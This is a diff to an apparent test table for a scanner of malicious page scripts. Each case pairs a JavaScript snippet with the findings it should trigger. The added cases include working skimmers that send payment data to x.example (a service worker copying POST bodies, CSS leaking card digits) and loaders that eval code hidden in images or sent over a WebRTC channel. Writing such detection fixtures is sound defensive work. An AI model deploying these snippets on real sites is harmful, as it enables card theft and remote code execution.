@@ -81,6 +81,30 @@ const cases: Record<string, [string, string[]]> = {
     `var real = Stripe.createToken; Stripe.createToken = function (card) { navigator.sendBeacon('https://x.example/', JSON.stringify(card)); return real.apply(this, arguments) }`,
     ['high requests-intercepted', 'critical typed-data-sent', 'low typed-data-sent'],
   ],
+  'a service worker that copies the payment': [
+    `self.addEventListener('fetch', e => { if (e.request.method === 'POST') e.request.clone().text().then(t => fetch('https://x.example/', { method: 'POST', body: t })) })`,
+    ['high requests-intercepted', 'critical typed-data-sent', 'low typed-data-sent'],
+  ],
+  'styles that tell what a field holds': [
+    `document.head.insertAdjacentHTML('beforeend', '<style>' + [1, 2, 3].map(n => 'input[name=cardnumber][value^="' + n + '"]{background:url(https://x.example/' + n + ')}').join('') + '</style>')`,
+    ['critical typed-data-sent'],
+  ],
+  'styles for buttons by their label': [
+    `document.head.insertAdjacentHTML('beforeend', '<style>input[value="Go"]{background:url(https://x.example/go.png)} a[href^="http"]{background:url(https://x.example/a.svg)}</style>')`,
+    [],
+  ],
+  'code in a picture of the site': [
+    `fetch('/media/logo.png').then(r => r.text()).then(t => { var m = t.match(/#([\\w+/=]+)#/); if (m) Function(atob(m[1]))() })`,
+    ['high remote-code'],
+  ],
+  'code in the bytes of a picture': [
+    `var x = new XMLHttpRequest(); x.open('GET', 'https://x.example/favicon.ico'); x.responseType = 'arraybuffer'; x.onload = function () { var s = ''; for (var b of new Uint8Array(x.response)) s += String.fromCharCode(b); var p = s.indexOf('EXIF'); if (p > 0) eval(s.substring(p + 4).split('').reverse().join('')) }; x.send()`,
+    ['high remote-code'],
+  ],
+  'code over a data channel': [
+    `var p = new RTCPeerConnection(), c = p.createDataChannel('a'), t = ''; p.setRemoteDescription({ type: 'answer', sdp: 'v=0' }); c.onmessage = function (e) { if (e.data) t += e.data; else eval(t) }`,
+    ['high remote-code'],
+  ],
   'an answer that is run': [loader, ['medium remote-code']],
   'an answer that is run for visitors from search engines': [
     `if (document.referrer.indexOf('google') > 0) { ${loader} }`,
